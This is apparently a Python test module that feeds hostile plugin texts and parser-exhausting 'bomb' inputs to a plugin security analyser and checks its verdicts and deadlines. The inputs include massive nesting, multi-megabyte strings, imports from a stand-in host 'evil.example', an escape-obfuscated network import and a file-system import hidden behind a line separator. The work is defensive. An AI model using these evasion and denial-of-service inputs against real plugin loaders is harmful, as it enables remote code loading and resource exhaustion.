"""Hostile plugins and texts, each analysed in killable workers as the service does it."""

from __future__ import annotations

import asyncio
import hashlib
import time
from collections.abc import Awaitable, Callable

from bench.attacking.attempt import Attempt, Field, Through
from loader.analysis.pool import AnalysisPool
from loader.nouns import Source, Verdict
from loader.settings import AnalysisSettings
from tests.analysis.rehearsal.hostile_plugins import ROWS, Hostile

SHORT = AnalysisSettings(rehearsal_cpu_s=0.25, static_deadline_s=8.0)
LONG = AnalysisSettings(rehearsal_cpu_s=3.0, static_deadline_s=8.0)
TAIL = "\nexport default { id: 'demo', register() {} }\n"


class Workers:
    """The pool that all of them go through; a neighbour is analysed after each."""

    def __init__(self) -> None:
        self.pool = AnalysisPool(2)

    async def verdict(self, text: str, settings: AnalysisSettings) -> Verdict:
        data = text.encode("utf-8", "surrogatepass")
        source = Source(data, text, hashlib.sha256(data).hexdigest())
        async with asyncio.timeout(120):
            return await self.pool.analyze(source, settings, source.sha256)

    async def neighbour_lives(self) -> None:
        found = await self.verdict(f"// {time.monotonic_ns()}{TAIL}", LONG)
        if not found.ok:
            raise Through(f"its neighbour is refused: {[one.code for one in found.diagnostics]}")


def hostile(workers: Workers, row: Hostile) -> Callable[[Field], Awaitable[str]]:
    async def run(_: Field) -> str:
        verdict = await workers.verdict(row.text, SHORT if row.code == "HP404" else LONG)
        await workers.neighbour_lives()
        codes = sorted({one.code for one in verdict.diagnostics})
        if verdict.ok is not row.loads:
            raise Through(f"it {'passes' if verdict.ok else 'is refused'}: {codes}")
        if row.code is not None and row.code not in codes:
            raise Through(f"{row.code} is missing: {codes}")
        return (
            f"refused: {', '.join(codes)}"
            if not row.loads
            else "the sandbox: harmless" + (f", {row.code}" if row.code else "")
        )

    return run


def bomb(workers: Workers, text: str, *, may_pass: bool = True) -> Callable[[Field], Awaitable[str]]:
    """It has to get a verdict, whichever, within its deadline, and the next one too."""

    async def run(_: Field) -> str:
        began = time.monotonic()
        verdict = await workers.verdict(text, SHORT)
        await workers.neighbour_lives()
        codes = sorted({one.code for one in verdict.diagnostics if one.severity == "error"})
        if verdict.ok and not may_pass:
            raise Through("it passes")
        if time.monotonic() - began > 60:
            raise Through(f"it took {time.monotonic() - began:.0f} s")
        return f"refused: {', '.join(codes)}" if codes else "read within its bounds"

    return run


def _bombs() -> list[tuple[str, str, str, bool]]:
    long = 200_000
    return [
        ("nesting", "200,000 brackets", "[" * long + TAIL, False),
        ("nesting", "100,000 calls in calls", "f(" * 100_000 + ")" * 100_000 + TAIL, False),
        ("nesting", "50,000 functions in functions", "()=>" * 50_000 + "0" + TAIL, False),
        ("nesting", "50,000 templates in templates", "`${" * 50_000 + "}`" * 50_000 + TAIL, False),
        ("nesting", "100,000 prefix operators", "!" * 100_000 + "0" + TAIL, True),
        ("nesting", "100,000 additions", "0" + "+1" * 100_000 + TAIL, True),
        ("nesting", "100,000 conditions", "0" + "?1:0" * 100_000 + TAIL, True),
        ("nesting", "50,000 members", "a" + ".a" * 50_000 + TAIL, True),
        ("nesting", "30,000 else-ifs", "if(0);" + "else if(0);" * 30_000 + TAIL, True),
        ("nesting", "20,000 nested patterns", "const " + "[" * 20_000 + "a" + "]" * 20_000 + " = []" + TAIL, False),
        ("our patterns", "a megabyte of blanks", " " * 1_000_000 + TAIL, True),
        ("our patterns", "a line of 1 MB of letters", "//" + "a" * 1_000_000 + TAIL, True),
        ("our patterns", "100,000 comment beginnings", "/*" * 100_000 + TAIL, False),
        ("our patterns", "100,000 quotes", "'" * 100_001 + TAIL, False),
        ("our patterns", "100,000 backslashes in a string", "'" + "\\\\" * 100_000 + "'" + TAIL, True),
        ("our patterns", "100,000 colours that are none", "'" + "#ff" * 100_000 + "'" + TAIL, True),
        ("our patterns", "a web address of 100,000 dots", "fetch('https://" + "a." * 100_000 + "')" + TAIL, True),
        (
            "our patterns",
            "an id of 100,000 dashes",
            f"export default {{ id: '{'a-' * 100_000}', register() {{}} }}",
            True,
        ),
        ("our patterns", "20,000 suppressions", "// hermes-ignore HP501 -- x\n" * 20_000 + TAIL, True),
        ("our patterns", "a suppression of 100,000 codes", "// hermes-ignore " + "HP501," * 100_000 + TAIL, True),
        ("our patterns", "50,000 markup beginnings", "<a " * 50_000 + TAIL, False),
        ("our patterns", "50,000 type annotations", "let a: " + "b<" * 50_000 + TAIL, False),
        ("our patterns", "100,000 HTML comments", "<!--" * 100_000 + TAIL, False),
        ("our patterns", "a page of HTML", "<!doctype html>" + "<div>" * 50_000, False),
        (
            "size",
            "20,000 imports of one name each",
            "".join(f"import {{ a{n} }} from 'x{n}'\n" for n in range(20_000)) + TAIL,
            False,
        ),
        (
            "size",
            "50,000 names in one import",
            "import {" + ",".join(f"a{n}" for n in range(50_000)) + "} from 'react'" + TAIL,
            True,
        ),
        ("size", "100,000 variables", "".join(f"let a{n}\n" for n in range(100_000)) + TAIL, True),
        ("size", "three megabytes of zeros and letters", ("a\0" * 1_500_000) + TAIL, False),
        ("imports", "an import behind an escape", "import '\\x6e\\x65t'" + TAIL, False),
        ("imports", "an import in a template", "import(`https://evil.example/x.js`)" + TAIL, False),
        ("imports", "an import from a data address", "import 'data:text/javascript,1'" + TAIL, False),
        ("imports", "a specifier that looks like ours", "import '@hermes/plugin\u2010sdk'" + TAIL, False),
        ("imports", "a specifier with a blank", "import ' react'" + TAIL, False),
        ("imports", "a re-export from the network", "export * from 'https://evil.example/x.js'" + TAIL, False),
        ("imports", "an import with attributes", "import x from 'react' with { type: 'json' }" + TAIL, False),
        ("imports", "an import hidden behind a line separator", "// \u2028import 'fs'" + TAIL, False),
    ]


def attempts(workers: Workers) -> list[Attempt]:
    found = [Attempt("hostile plugin", row.name, hostile(workers, row)) for row in ROWS if row.code != "HP203"]
    found += [Attempt(kind, name, bomb(workers, text, may_pass=may_pass)) for kind, name, text, may_pass in _bombs()]
    return found
